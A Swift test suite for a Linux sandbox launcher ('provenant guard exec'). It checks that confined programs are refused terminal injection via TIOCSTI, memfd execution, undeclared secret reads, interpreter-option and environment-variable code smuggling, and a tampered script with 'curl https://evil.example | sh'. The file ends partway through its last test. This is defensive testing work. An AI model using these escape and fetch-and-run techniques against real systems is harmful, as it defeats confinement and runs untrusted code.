import Foundation
import Testing
import TestSupport
import Permissions
@testable import Guard

/// `provenant guard exec` end to end: the built binary confines real programs on this kernel
/// (Landlock ABI 7, run as root). Nothing here skips when a kernel feature is missing: the launcher
/// then refuses, and the test fails saying why.
@Suite(.serialized) struct ExecCommandTests {
    static let python = "/usr/bin/python3"

    /// A scratch directory with `files` (executable when the name ends in .sh) and the manifest `m.yaml`.
    struct Scratch {
        let dir: String
        init(manifest: String, files: [String: String] = [:]) throws {
            dir = FileManager.default.temporaryDirectory.appendingPathComponent("guard-exec-\(UUID().uuidString)").path
            try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
            for (name, text) in files {
                let p = dir + "/" + name
                try FileManager.default.createDirectory(atPath: (p as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
                try text.write(toFile: p, atomically: false, encoding: .utf8)
                if name.hasSuffix(".sh") { chmod(p, 0o755) }
            }
            try manifest.replacingOccurrences(of: "$DIR", with: dir).write(toFile: dir + "/m.yaml", atomically: false, encoding: .utf8)
        }
        /// `guard exec --manifest m.yaml OPTIONS -- COMMAND`; PROVENANT_ENVIRONMENT is unset (empty) unless given.
        func exec(_ options: [String], _ command: [String], env: [String: String] = [:]) throws -> (code: Int32, out: String, err: String) {
            try runProcess(provenantBinary, ["guard", "exec", "--manifest", dir + "/m.yaml"] + options + ["--"] + command,
                           env: ["PROVENANT_ENVIRONMENT": ""].merging(env) { $1 })
        }
        func remove() { try? FileManager.default.removeItem(atPath: dir) }
        /// Writes `text` as the executable file `name` and returns its SHA-256, as a manifest pins it.
        func script(_ name: String, _ text: String) throws -> String {
            let p = dir + "/" + name
            try text.write(toFile: p, atomically: false, encoding: .utf8)
            chmod(p, 0o755)
            let fd = open(p, O_RDONLY)
            defer { close(fd) }
            return try #require(ExecLauncher.sha256(fd))
        }
        /// Replaces the manifest `m.yaml`.
        func manifest(_ text: String) throws { try text.write(toFile: dir + "/m.yaml", atomically: false, encoding: .utf8) }
    }

    /// The JSON audit record on standard error.
    static func audit(_ err: String) throws -> [String: Any] {
        let line = try #require(err.split(separator: "\n").first { $0.hasPrefix("{") }, "no audit record in: \(err)")
        return try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
    }

    static let cleanup = "#!/bin/sh\necho cleaned \"$@\"\n"

    /// Found by helper-116: the command typed into the terminal it inherited (TIOCSTI), and the
    /// caller's shell ran the text unconfined after the command exited. `script` gives the launcher a
    /// terminal; CAP_SYS_ADMIN is declared so the ioctl would pass the kernel's own checks whatever
    /// its `dev.tty.legacy_tiocsti` says: only the filter stops it.
    @Test func theCommandCannotTypeIntoItsTerminal() throws {
        let s = try Scratch(manifest: "name: agent\ncapabilities: [SYS_ADMIN]\n")
        defer { s.remove() }
        let code = "import errno, fcntl, termios\nfor req in (termios.TIOCSTI, 0x541C, termios.TIOCSTI | (1 << 32)):\n  try:\n    fcntl.ioctl(0, req, b'x'); print('ioctl', 'ok')\n  except OSError as e:\n    print('ioctl', errno.errorcode[e.errno])"
        try code.write(toFile: s.dir + "/inject.py", atomically: false, encoding: .utf8)
        let command = "PROVENANT_ENVIRONMENT= '\(provenantBinary)' guard exec --manifest '\(s.dir)/m.yaml' --environment test -- \(Self.python) '\(s.dir)/inject.py'"
        let r = try runProcess("/usr/bin/script", ["-qec", command, "/dev/null"])
        let results = r.out.split(whereSeparator: \.isNewline).filter { $0.hasPrefix("ioctl ") }.map { $0.trimmingCharacters(in: .whitespaces) }
        #expect(results == ["ioctl EPERM", "ioctl EPERM", "ioctl EPERM"], "\(r.out) \(r.err)")
        // The same ioctl outside the launcher is not refused by anything else: the test can fail.
        let bare = try runProcess("/usr/bin/script", ["-qec", "\(Self.python) '\(s.dir)/inject.py'", "/dev/null"])
        #expect(bare.out.contains("ioctl ok"), "\(bare.out) \(bare.err)")
    }

    @Test func aWriteOutsideTheDeclaredPathsFailsWithEACCES() throws {
        let s = try Scratch(manifest: "name: agent\nfilesystem:\n  write: [$DIR/out]\n", files: ["out/.keep": ""])
        defer { s.remove() }
        let code = "import errno, sys\nfor p in sys.argv[1:]:\n  try:\n    open(p, 'w').write('x'); print(p, 'ok')\n  except OSError as e:\n    print(p, errno.errorcode[e.errno])"
        let r = try s.exec(["--environment", "test"], [Self.python, "-c", code, s.dir + "/out/a", s.dir + "/b", "/tmp/guard-exec-escape-\(UUID().uuidString)"])
        #expect(r.code == 0, "\(r.err)")
        let lines = r.out.split(separator: "\n").map { String($0.split(separator: " ").last ?? "") }
        #expect(lines == ["ok", "EACCES", "EACCES"], "\(r.out) \(r.err)")
        #expect(FileManager.default.fileExists(atPath: s.dir + "/out/a") && !FileManager.default.fileExists(atPath: s.dir + "/b"))
    }

    /// helper-146: with the write path inside the read path, a binary the command copied there ran.
    @Test func whatTheCommandWroteInsideAReadPathCannotRun() throws {
        let s = try Scratch(manifest: "name: agent\nfilesystem:\n  read: [$DIR]\n  write: [$DIR/out]\n", files: ["out/.keep": ""])
        defer { s.remove() }
        let script = "cp /usr/bin/id \(s.dir)/out/tool && chmod 755 \(s.dir)/out/tool && \(s.dir)/out/tool -u && echo RAN; cat \(s.dir)/m.yaml >/dev/null && echo READ"
        let r = try s.exec(["--environment", "test", "--audit", "-"], ["/bin/sh", "-c", script])
        #expect(!r.out.contains("RAN") && r.out.contains("READ") && r.err.contains("Permission denied"), "\(r.out) \(r.err)")
        let notes = try #require(try Self.audit(r.err)["notes"] as? [String])
        #expect(notes.contains { $0.contains("granted without execute: \(s.dir)") }, "\(notes)")
        let system = try Scratch(manifest: "name: agent\nfilesystem:\n  write: [/usr/lib/provenant-test]\n")
        defer { system.remove() }
        let refused = try system.exec(["--environment", "test"], ["/bin/true"])
        #expect(refused.code == 126 && refused.err.contains("the write path /usr/lib/provenant-test lies within /"), "\(refused.err)")
    }

    /// A memfd has no path for Landlock to judge: a program the command wrote into one ran, though
    /// nothing it may write may execute. Only memfds sealed against execute are created now.
    @Test func aProgramWrittenIntoAMemfdCannotRun() throws {
        let s = try Scratch(manifest: "name: agent\nfilesystem:\n  write: [$DIR/out]\n", files: ["out/.keep": ""])
        defer { s.remove() }
        let code = """
            import errno, os
            def make(flags):
                try:
                    return os.memfd_create("x", flags)
                except OSError as e:
                    print(flags, errno.errorcode[e.errno]); return None
            for flags in (0, os.MFD_CLOEXEC, 0x10, 0x10 | 0x8):
                fd = make(flags)
                if fd is not None: print(flags, "created")
            fd = make(0x8)
            if fd is not None:
                os.write(fd, open("/usr/bin/id", "rb").read())
                try:
                    os.execv("/proc/self/fd/%d" % fd, ["id", "-u"])
                except OSError as e:
                    print("exec", errno.errorcode[e.errno])
            """
        let r = try s.exec(["--environment", "test"], [Self.python, "-u", "-c", code])
        #expect(r.code == 0, "\(r.err)")
        let lines = r.out.split(separator: "\n").map(String.init)
        #expect(Array(lines.prefix(4)) == ["0 EPERM", "1 EPERM", "16 EPERM", "24 EPERM"], "\(r.out) \(r.err)")
        // MFD_NOEXEC_SEAL is created on Linux 6.3 and later (older kernels refuse the flag), and what
        // is written into it cannot be executed.
        #expect(Array(lines.dropFirst(4)) == ["exec EACCES"] || Array(lines.dropFirst(4)) == ["8 EINVAL"], "\(r.out) \(r.err)")
        // Outside the launcher the same program runs from a memfd: the refusal is the filter's.
        let plain = "import os\nfd = os.memfd_create('x')\nos.write(fd, open('/usr/bin/id', 'rb').read())\nos.execv('/proc/self/fd/%d' % fd, ['id', '-u'])"
        let free = try runProcess(Self.python, ["-c", plain])
        #expect(free.code == 0 && Int(free.out.trimmingCharacters(in: .whitespacesAndNewlines)) != nil, "\(free.out) \(free.err)")
    }

    @Test func readingAnUndeclaredSecretFileFails() throws {
        let s = try Scratch(manifest: "name: agent\nfilesystem:\n  read: [$DIR/config]\nsecrets:\n  - file: $DIR/run/token\n",
                            files: ["config/app.conf": "level=info\n", "undeclared/secret.txt": "hunter2\n", "run/token": "declared-token\n", "run/other": "other\n"])
        defer { s.remove() }
        let code = "import errno, sys\nfor p in sys.argv[1:]:\n  try:\n    print(p, open(p).read().strip())\n  except OSError as e:\n    print(p, errno.errorcode[e.errno])"
        let r = try s.exec(["--environment", "test"], [Self.python, "-c", code, s.dir + "/config/app.conf", s.dir + "/undeclared/secret.txt", s.dir + "/run/token", s.dir + "/run/other", "/etc/shadow"])
        #expect(r.code == 0, "\(r.err)")
        #expect(r.out.split(separator: "\n").map { String($0.split(separator: " ").last ?? "") } == ["level=info", "EACCES", "declared-token", "EACCES", "EACCES"], "\(r.out)")
        #expect(!r.out.contains("hunter2"))
        // Without the launcher the same reads succeed: the refusal is the sandbox's, not the file's mode.
        #expect(try String(contentsOfFile: s.dir + "/undeclared/secret.txt", encoding: .utf8) == "hunter2\n")
    }

    /// Cap* lines of /proc/self/status as read by a confined cat.
    static func capabilities(_ s: Scratch) throws -> [String: String] {
        let r = try s.exec(["--environment", "test"], ["/bin/cat", "/proc/self/status"])
        #expect(r.code == 0, "\(r.err)")
        var caps: [String: String] = [:]
        for line in r.out.split(separator: "\n") where line.hasPrefix("Cap") || line.hasPrefix("NoNewPrivs") {
            let f = line.split(separator: ":").map { $0.trimmingCharacters(in: .whitespaces) }
            caps[f[0]] = f[1]
        }
        return caps
    }

    @Test func procSelfStatusInsideShowsOnlyTheDeclaredCapabilities() throws {
        let outside = try String(contentsOfFile: "/proc/self/status", encoding: .utf8)
        #expect(outside.contains("CapEff:\t000001ff"), "the tests run as root with (nearly) every capability: \(outside)")
        let s = try Scratch(manifest: "name: agent\ncapabilities: [NET_BIND_SERVICE, CAP_KILL]\n")
        defer { s.remove() }
        let caps = try Self.capabilities(s)
        let want = "0000000000000420"  // KILL (5) and NET_BIND_SERVICE (10)
        #expect(caps == ["CapInh": want, "CapPrm": want, "CapEff": want, "CapBnd": want, "CapAmb": "0000000000000000", "NoNewPrivs": "1"])
        let none = try Scratch(manifest: "name: agent\n")
        defer { none.remove() }
        let zero = "0000000000000000"
        #expect(try Self.capabilities(none) == ["CapInh": zero, "CapPrm": zero, "CapEff": zero, "CapBnd": zero, "CapAmb": zero, "NoNewPrivs": "1"])
    }

    /// A non-root launcher keeps declared capabilities across execve only as ambient ones: run it as
    /// nobody holding NET_BIND_SERVICE and KILL (setpriv, util-linux), with only the first declared.
    @Test func aNonRootLauncherPassesOnlyTheDeclaredCapabilitiesAsAmbient() throws {
        let s = try Scratch(manifest: "name: agent\ncapabilities: [NET_BIND_SERVICE]\n")
        defer { s.remove() }
        chmod(s.dir, 0o755)
        let r = try runProcess("/usr/bin/setpriv", ["--reuid=65534", "--regid=65534", "--clear-groups",
                                                    "--inh-caps=+net_bind_service,+kill", "--ambient-caps=+net_bind_service,+kill",
                                                    provenantBinary, "guard", "exec", "--manifest", s.dir + "/m.yaml", "--environment", "test",
                                                    "--audit", "-", "--", "/bin/cat", "/proc/self/status"])
        #expect(r.code == 0, "\(r.err)")
        var caps: [String: String] = [:]
        for line in r.out.split(separator: "\n") where line.hasPrefix("Cap") || line.hasPrefix("Uid") {
            let f = line.split(separator: ":").map { $0.trimmingCharacters(in: .whitespaces) }
            caps[f[0]] = f[1]
        }
        #expect(caps["Uid"]?.hasPrefix("65534") == true)
        let want = "0000000000000400"
        #expect(caps["CapPrm"] == want && caps["CapEff"] == want && caps["CapAmb"] == want && caps["CapInh"] == want, "\(caps)")
        // Without CAP_SETPCAP the bounding set cannot shrink; the audit record says so.
        #expect(r.err.contains("without CAP_SETPCAP the bounding set keeps"))
    }

    @Test func anUndeclaredScriptIsRefusedInProduction() throws {
        let s = try Scratch(manifest: "name: agent\nscripts:\n  cleanup.sh: [test]\n", files: ["undeclared.sh": Self.cleanup])
        defer { s.remove() }
        for command in [[s.dir + "/undeclared.sh"], ["/bin/sh", s.dir + "/undeclared.sh"], ["/usr/bin/env", "bash", s.dir + "/undeclared.sh"], ["/bin/sh", "-c", "echo cleaned"]] {
            let r = try s.exec(["--environment", "production"], command)
            #expect(r.code == 126 && !r.out.contains("cleaned"), "\(command): \(r.code) \(r.out) \(r.err)")
            #expect(r.err.contains("refused:") && r.err.contains("is not a declared script, and undeclared scripts are refused in production"), "\(r.err)")
            let a = try Self.audit(r.err)
            #expect(a["decision"] as? String == "refuse" && a["environment"] as? String == "production" && a["reason"] as? String != nil && a["time"] as? String != nil)
        }
        // Outside production an undeclared script runs (confined).
        let staging = try s.exec(["--environment", "staging"], [s.dir + "/undeclared.sh", "x"])
        #expect(staging.code == 0 && staging.out == "cleaned x\n", "\(staging.err)")
        // With no environment at all, the environment is production.
        let unknown = try s.exec([], [s.dir + "/undeclared.sh"])
        #expect(unknown.code == 126)
        let record = try Self.audit(unknown.err)
        #expect(record["environmentSource"] as? String == "default" && record["environment"] as? String == "production")
    }

    static let declared = "name: agent\nscripts:\n  deploy.sh: [production]\n  deploy.pl: [production]\n  deploy.py: [production]\n"
    static let deployFiles = ["deploy.sh": "#!/bin/sh\necho deployed\n", "deploy.pl": "print \"deployed\\n\";\n", "deploy.py": "print('deployed')\n",
                              "evil.pl": "print \"EVIL\\n\";\n", "evil.sh": "echo EVIL\n"]

    /// A declared script must not be the cover for other code through an interpreter's or env's options.
    @Test func optionsThatRunOtherCodeRefuseADeclaredScript() throws {
        let s = try Scratch(manifest: Self.declared, files: Self.deployFiles)
        defer { s.remove() }
        let d = s.dir
        for command in [["/usr/bin/perl", "-l", d + "/evil.pl", d + "/deploy.pl"], ["/usr/bin/perl", "-x", d + "/evil.pl", d + "/deploy.pl"],
                        ["/usr/bin/perl", "-MPOSIX;print \"EVIL\\n\";", d + "/deploy.pl"], [Self.python, "-i", d + "/deploy.py"],
                        ["/usr/bin/env", "-vu", d + "/deploy.sh", "sh", "-c", "echo EVIL"], ["/usr/bin/env", "-S", "sh -c 'echo EVIL'", d + "/deploy.sh"],
                        ["/usr/bin/env", "BASH_ENV=\(d)/evil.sh", "bash", d + "/deploy.sh"], ["/bin/bash", "--rcfile", d + "/evil.sh", "-i", d + "/deploy.sh"]] {
            let r = try s.exec(["--environment", "production"], command)
            #expect(r.code == 126 && !r.out.contains("EVIL"), "\(command): \(r.code) \(r.out) \(r.err)")
            #expect(r.err.contains("could run code the manifest does not declare"), "\(r.err)")
        }
        let ok = try s.exec(["--environment", "production"], ["/usr/bin/perl", "-w", d + "/deploy.pl"])
        #expect(ok.code == 0 && ok.out == "deployed\n", "\(ok.err)")
    }

    /// An interpreter is one only where root put it: a copy of `id` named bash is refused, directly or through env.
    @Test func aProgramNamedLikeAnInterpreterOutsideTheSystemIsRefused() throws {
        let s = try Scratch(manifest: Self.declared, files: Self.deployFiles)
        defer { s.remove() }
        try FileManager.default.copyItem(atPath: "/usr/bin/id", toPath: s.dir + "/bash")
        for command in [[s.dir + "/bash", s.dir + "/deploy.sh"], ["/usr/bin/env", s.dir + "/bash", s.dir + "/deploy.sh"]] {
            let r = try s.exec(["--environment", "production"], command)
            #expect(r.code == 126 && !r.out.contains("uid="), "\(command): \(r.out) \(r.err)")
            #expect(r.err.contains("is not a trusted interpreter"), "\(r.err)")
        }
        let system = try s.exec(["--environment", "production"], ["/usr/bin/env", "bash", s.dir + "/deploy.sh"])
        #expect(system.code == 0 && system.out == "deployed\n", "\(system.err)")
    }

    /// A link named like one interpreter to another (root's own bash) had its options read with the
    /// name's grammar: `python3 -s deploy.sh` ran bash reading standard input, with the pinned script
    /// as cover; directly, on PATH, and through env (found by helper-81).
    @Test func aLinkNamedLikeAnotherInterpreterIsRefused() throws {
        let s = try Scratch(manifest: Self.declared, files: Self.deployFiles)
        defer { s.remove() }
        try FileManager.default.createDirectory(atPath: s.dir + "/bin", withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: s.dir + "/bin/python3", withDestinationPath: "/usr/bin/bash")
        for (command, env) in [([s.dir + "/bin/python3", "-s", s.dir + "/deploy.sh"], [:]),
                               (["python3", "-s", s.dir + "/deploy.sh"], ["PATH": s.dir + "/bin:/usr/bin:/bin"]),
                               (["/usr/bin/env", "python3", "-s", s.dir + "/deploy.sh"], ["PATH": s.dir + "/bin:/usr/bin:/bin"])] {
            let r = try s.exec(["--environment", "production"], command, env: env)
            #expect(r.code == 126 && r.err.contains("'python3' is bash"), "\(command): \(r.code) \(r.out) \(r.err)")
        }
        let ok = try s.exec(["--environment", "production"], ["/usr/bin/python3", s.dir + "/deploy.py"])
        #expect(ok.code == 0 && ok.out == "deployed\n", "\(ok.err)")
    }

    /// A Kubernetes Secret volume is a sticky directory of mode 1777 whose keys are root's links into
    /// `..data`: a declared file there is followed (found by review: every launch was refused).
    @Test func aSecretVolumesLinksAreFollowed() throws {
        let s = try Scratch(manifest: "name: agent\nsecrets:\n  - file: $DIR/secrets/password\n", files: ["secrets/..2026_12_03/password": "s3cr3t-from-volume\n"])
        defer { s.remove() }
        try FileManager.default.createSymbolicLink(atPath: s.dir + "/secrets/..data", withDestinationPath: "..2026_12_03")
        try FileManager.default.createSymbolicLink(atPath: s.dir + "/secrets/password", withDestinationPath: "..data/password")
        chmod(s.dir + "/secrets", 0o1777)
        let r = try s.exec(["--environment", "test"], ["/usr/bin/cat", s.dir + "/secrets/password"])
        #expect(r.code == 0 && r.out == "s3cr3t-from-volume\n", "\(r.out) \(r.err)")
    }

    /// HOME's dot-files are read before any script (zsh's .zshenv, Python's user site, git's config):
    /// a write path there, or a HOME inside one, is refused (found by review).
    @Test func aWritableHomeIsRefused() throws {
        for write in ["$DIR/home", "$DIR/home/.local", "$DIR"] {
            let s = try Scratch(manifest: "name: agent\nfilesystem:\n  write: [\(write)]\n", files: ["home/.keep": ""])
            defer { s.remove() }
            let r = try s.exec(["--environment", "test"], ["/usr/bin/true"], env: ["HOME": s.dir + "/home"])
            #expect(r.code == 126 && r.err.contains("HOME ("), "\(write): \(r.err)")
        }
        let s = try Scratch(manifest: "name: agent\nfilesystem:\n  write: [$DIR/home/data, $DIR/home/.cache/pip]\n", files: ["home/data/.keep": "", "home/.cache/pip/.keep": ""])
        defer { s.remove() }
        let ok = try s.exec(["--environment", "test"], ["/usr/bin/true"], env: ["HOME": s.dir + "/home"])
        #expect(ok.code == 0, "a write path in HOME that no code is read from is allowed: \(ok.err)")
        // A HOME that is a link into a write path is where it leads (found by review).
        let linked = try Scratch(manifest: "name: agent\nfilesystem:\n  write: [$DIR/real]\n", files: ["real/.keep": ""])
        defer { linked.remove() }
        try FileManager.default.createSymbolicLink(atPath: linked.dir + "/home", withDestinationPath: linked.dir + "/real")
        let viaLink = try linked.exec(["--environment", "test"], ["/usr/bin/true"], env: ["HOME": linked.dir + "/home"])
        #expect(viaLink.code == 126 && viaLink.err.contains("HOME ("), "\(viaLink.err)")
    }

    /// PATH entries the command may write (or relative ones) are dropped: a link planted there ran
    /// for any script naming a command bare (found by helper-81).
    @Test func pathEntriesTheCommandMayWriteAreDropped() throws {
        let s = try Scratch(manifest: "name: agent\nfilesystem:\n  write: [$DIR/out]\n", files: ["out/.keep": ""])
        defer { s.remove() }
        let r = try s.exec(["--environment", "test"], ["/usr/bin/bash", "-c", "echo $PATH"], env: ["PATH": "\(s.dir)/out:bin:/usr/bin:/bin"])
        #expect(r.code == 0 && r.out == "/usr/bin:/bin\n", "\(r.out) \(r.err)")
        let none = try s.exec(["--environment", "test"], ["/usr/bin/bash", "-c", "echo $PATH"], env: ["PATH": "\(s.dir)/out::."])
        #expect(none.code == 0 && none.out == "/usr/local/bin:/usr/bin:/bin\n", "none left is not an empty PATH: \(none.out) \(none.err)")
    }

    /// A rule's path is not followed through a link the agent could make: a confined run planted
    /// `ws/models -> private`, and the next run's read rule on ws/models granted private/ (found by
    /// helper-81). A declared write path that is itself such a link is refused the same way.
    @Test func aLinkTheAgentPlantedDoesNotWidenItsNextSandbox() throws {
        let s = try Scratch(manifest: "name: agent\nfilesystem:\n  write: [$DIR/ws]\n  read: [$DIR/ws/models]\n",
                            files: ["ws/.keep": "", "private/secret.txt": "root-only data\n"])
        defer { s.remove() }
        let first = try s.exec(["--environment", "test"], ["/usr/bin/bash", "-c", "cat \(s.dir)/private/secret.txt 2>/dev/null || echo denied; ln -s \(s.dir)/private \(s.dir)/ws/models"])
        #expect(first.code == 0 && first.out == "denied\n", "\(first.out) \(first.err)")
        let second = try s.exec(["--environment", "test"], ["/usr/bin/bash", "-c", "cat \(s.dir)/private/secret.txt"])
        #expect(second.code == 126 && !second.out.contains("root-only"), "\(second.code) \(second.out) \(second.err)")
        #expect(second.err.contains("leads through the symbolic link \(s.dir)/ws/models"), "\(second.err)")
        try FileManager.default.removeItem(atPath: s.dir + "/ws")
        try FileManager.default.createSymbolicLink(atPath: s.dir + "/ws", withDestinationPath: s.dir + "/private")
        let linked = try s.exec(["--environment", "test"], ["/usr/bin/bash", "-c", "echo planted > \(s.dir)/private/written"])
        #expect(linked.code == 126 && !FileManager.default.fileExists(atPath: s.dir + "/private/written"), "\(linked.err)")
    }

    /// BASH_ENV, PERL5OPT, PYTHONSTARTUP, LD_PRELOAD... inherited by the launcher never reach the command,
    /// and are named (not shown) in the audit record.
    @Test func codeLoadingVariablesAreRemovedFromTheCommandsEnvironment() throws {
        let s = try Scratch(manifest: Self.declared + "secrets:\n  - env: BASH_ENV\n", files: Self.deployFiles)
        defer { s.remove() }
        let env = ["BASH_ENV": s.dir + "/evil.sh", "PERL5OPT": "-MPOSIX;print \"EVIL\\n\";", "LD_LIBRARY_PATH": "/nonexistent", "OPENSSL_CONF": s.dir + "/evil.cnf"]
        for command in [["/bin/bash", s.dir + "/deploy.sh"], ["/usr/bin/perl", s.dir + "/deploy.pl"]] {
            let r = try s.exec(["--environment", "production", "--audit", "-"], command, env: env)
            #expect(r.code == 0 && r.out == "deployed\n", "\(command): \(r.out) \(r.err)")
            let removed = try #require(try Self.audit(r.err)["removedEnvironment"] as? [String])
            #expect(Set(["BASH_ENV", "PERL5OPT", "LD_LIBRARY_PATH", "OPENSSL_CONF"]).isSubset(of: Set(removed)) && !r.err.contains("evil.sh"), "\(r.err)")
        }
    }

    /// Python loads the user site-packages' `.pth` files through HOME before the script: with HOME in a
    /// writable directory, a declared, pinned script would run code the manifest does not declare.
    @Test func theUserSitePackagesThroughHomeAreNotLoaded() throws {
        let version = try runProcess(Self.python, ["-c", "import sys; print('%d.%d' % sys.version_info[:2])"]).out
            .trimmingCharacters(in: .whitespacesAndNewlines)
        let site = "home/.local/lib/python\(version)/site-packages"
        // (The command writing HOME is refused outright, aWritableHomeIsRefused: here the site was planted before.)
        let s = try Scratch(manifest: Self.declared + "filesystem:\n  write: [$DIR/out]\n",
                            files: Self.deployFiles.merging(["out/.keep": "", "\(site)/zz.pth": "import sys; print('EVIL')\n", "\(site)/usercustomize.py": "print('EVIL TOO')\n"]) { $1 })
        defer { s.remove() }
        // The site is live for Python outside the guard: the test would pass without the fix otherwise.
        let outside = try runProcess(Self.python, [s.dir + "/deploy.py"], env: ["HOME": s.dir + "/home"])
        #expect(outside.out.contains("EVIL"), "\(outside.out) \(outside.err)")
        let r = try s.exec(["--environment", "production"], [Self.python, s.dir + "/deploy.py"], env: ["HOME": s.dir + "/home", "PYTHONNOUSERSITE": ""])
        #expect(r.code == 0 && r.out == "deployed\n", "\(r.out) \(r.err)")
    }

    /// Node's require falls back to HOME's .node_modules (and .node_libraries): a writable one would hand a
    /// pinned script modules nobody declared, so the command is refused while one is there.
    @Test func nodeModulesThroughHomeAreRefused() throws {
        let node = "/usr/bin/node"
        let script = "try { require('helper') } catch (e) {}\nconsole.log('deployed')\n"
        let s = try Scratch(manifest: "name: agent\nscripts:\n  deploy.js: [production]\nfilesystem:\n  write: [$DIR/out]\n",
                            files: ["deploy.js": script, "home/.node_modules/helper/index.js": "console.log('EVIL')\n", "clean/.keep": "", "out/.keep": ""])
        defer { s.remove() }
        // The folder is live for Node outside the guard: the test would pass without the check otherwise.
        let outside = try runProcess(node, [s.dir + "/deploy.js"], env: ["HOME": s.dir + "/home"])
        #expect(outside.out.contains("EVIL"), "\(outside.out) \(outside.err)")
        let r = try s.exec(["--environment", "production"], [node, s.dir + "/deploy.js"], env: ["HOME": s.dir + "/home"])
        #expect(r.code == 126 && !r.out.contains("EVIL") && r.err.contains("home/.node_modules exists, and Node's require loads modules from it"), "\(r.out) \(r.err)")
        // Whatever the command: a shell script may run node itself.
        let viaShell = try s.exec(["--environment", "test"], ["/bin/sh", "-c", "true"], env: ["HOME": s.dir + "/home"])
        #expect(viaShell.code == 126, "\(viaShell.err)")
        // .node_libraries too, and a link counts by its target.
        try FileManager.default.removeItem(atPath: s.dir + "/home/.node_modules")
        try FileManager.default.createSymbolicLink(atPath: s.dir + "/home/.node_libraries", withDestinationPath: s.dir + "/clean")
        let linked = try s.exec(["--environment", "production"], [node, s.dir + "/deploy.js"], env: ["HOME": s.dir + "/home"])
        #expect(linked.code == 126 && linked.err.contains(".node_libraries exists"), "\(linked.err)")
        // Without either, it runs.
        try FileManager.default.removeItem(atPath: s.dir + "/home/.node_libraries")
        let ok = try s.exec(["--environment", "production"], [node, s.dir + "/deploy.js"], env: ["HOME": s.dir + "/home"])
        #expect(ok.code == 0 && ok.out == "deployed\n", "\(ok.out) \(ok.err)")
        // A HOME anyone may write could grow one while the command runs (found by review).
        #expect(chmod(s.dir + "/home", 0o777) == 0)
        let open = try s.exec(["--environment", "production"], [node, s.dir + "/deploy.js"], env: ["HOME": s.dir + "/home"])
        #expect(open.code == 126 && open.err.contains("may be written by another user or group"), "\(open.err)")
    }

    /// The refusal on standard error goes through the redactor, as the audit record does.
    @Test func theRefusalOnStandardErrorIsRedacted() throws {
        let s = try Scratch(manifest: "name: agent\n")
        defer { s.remove() }
        let token = "ghp_" + "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"
        let r = try s.exec(["--environment", "production"], ["/nonexistent/" + token])
        #expect(r.code == 127 && r.err.contains("refused: ") && !r.err.contains(token), "\(r.err)")
    }

    @Test func cleanupMeantForTestIsRefusedOnProductionAndRunsInTest() throws {
        let s = try Scratch(manifest: "name: agent\nscripts:\n  cleanup.sh: [test]\n", files: ["cleanup.sh": Self.cleanup])
        defer { s.remove() }
        let prod = try s.exec(["--environment", "production"], [s.dir + "/cleanup.sh", "--all"])
        #expect(prod.code == 126 && prod.out.isEmpty)
        #expect(prod.err.contains("'cleanup.sh' is declared for test, not for production"), "\(prod.err)")
        #expect((try Self.audit(prod.err))["script"] as? String == "cleanup.sh")
        let test = try s.exec(["--environment", "test"], [s.dir + "/cleanup.sh", "--all"])
        #expect(test.code == 0 && test.out == "cleaned --all\n", "\(test.err)")
        let viaShell = try s.exec(["--environment", "test"], ["/bin/sh", s.dir + "/cleanup.sh", "--all"])
        #expect(viaShell.code == 0 && viaShell.out == "cleaned --all\n", "\(viaShell.err)")
    }

    /// Matched by the name typed, a link named after a production script ran the test-only
    /// `cleanup.sh` in production, and a link of that name to `sh` ran inline code as it; directly and
    /// as an interpreter's operand (found by helper-136).
    @Test func aLinkNamedAfterADeclaredScriptRunsNothingElseUnderItsName() throws {
        let s = try Scratch(manifest: "name: agent\nscripts:\n  cleanup.sh: [test]\n  deploy.sh: [production]\n", files: ["ro/cleanup.sh": Self.cleanup])
        defer { s.remove() }
        try FileManager.default.createDirectory(atPath: s.dir + "/rw", withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: s.dir + "/rw/deploy.sh", withDestinationPath: s.dir + "/ro/cleanup.sh")
        for command in [[s.dir + "/rw/deploy.sh"], ["/bin/sh", s.dir + "/rw/deploy.sh"]] {
            let r = try s.exec(["--environment", "production"], command)
            #expect(r.code == 126 && !r.out.contains("cleaned"), "\(command): \(r.code) \(r.out) \(r.err)")
            #expect(r.err.contains("'deploy.sh' is 'cleanup.sh' under another name, and 'cleanup.sh' is declared for test, not for production"), "\(r.err)")
        }
        try FileManager.default.removeItem(atPath: s.dir + "/rw/deploy.sh")
        try FileManager.default.createSymbolicLink(atPath: s.dir + "/rw/deploy.sh", withDestinationPath: "/bin/sh")
        let inline = try s.exec(["--environment", "production"], [s.dir + "/rw/deploy.sh", "-c", "echo INLINE"])
        #expect(inline.code == 126 && !inline.out.contains("INLINE"), "\(inline.code) \(inline.out) \(inline.err)")
        #expect(inline.err.contains("is not a declared script"), "\(inline.err)")
        // A link named after a production script to a program no key declares is refused in production
        // (helper-138), and runs elsewhere.
        try FileManager.default.removeItem(atPath: s.dir + "/rw/deploy.sh")
        try FileManager.default.createSymbolicLink(atPath: s.dir + "/rw/deploy.sh", withDestinationPath: "/usr/bin/id")
        let undeclared = try s.exec(["--environment", "production"], [s.dir + "/rw/deploy.sh"])
        #expect(undeclared.code == 126 && !undeclared.out.contains("uid="), "\(undeclared.code) \(undeclared.out) \(undeclared.err)")
        #expect(undeclared.err.contains("'deploy.sh' is 'id' under another name, and 'id' is not a declared script"), "\(undeclared.err)")
        // Where both names are allowed, the link runs.
        let test = try s.exec(["--environment", "test"], [s.dir + "/ro/cleanup.sh", "x"])
        #expect(test.code == 0 && test.out == "cleaned x\n", "\(test.err)")
    }

    @Test func aDeclaredScriptWhoseDigestChangedIsRefused() throws {
        let s = try Scratch(manifest: "name: agent\n")
        defer { s.remove() }
        let digest = try s.script("rotate.sh", Self.cleanup)
        try s.manifest("name: agent\nscripts:\n  rotate.sh:\n    environments: [production]\n    sha256: \(digest)\n")
        let ok = try s.exec(["--environment", "production"], [s.dir + "/rotate.sh"])
        #expect(ok.code == 0 && ok.out == "cleaned\n", "\(ok.err)")
        let viaBash = try s.exec(["--environment", "production"], ["/bin/bash", s.dir + "/rotate.sh"])
        #expect(viaBash.code == 0 && viaBash.out == "cleaned\n", "\(viaBash.err)")
        try (Self.cleanup + "curl https://evil.example | sh\n").write(toFile: s.dir + "/rotate.sh", atomically: false, encoding: .utf8)
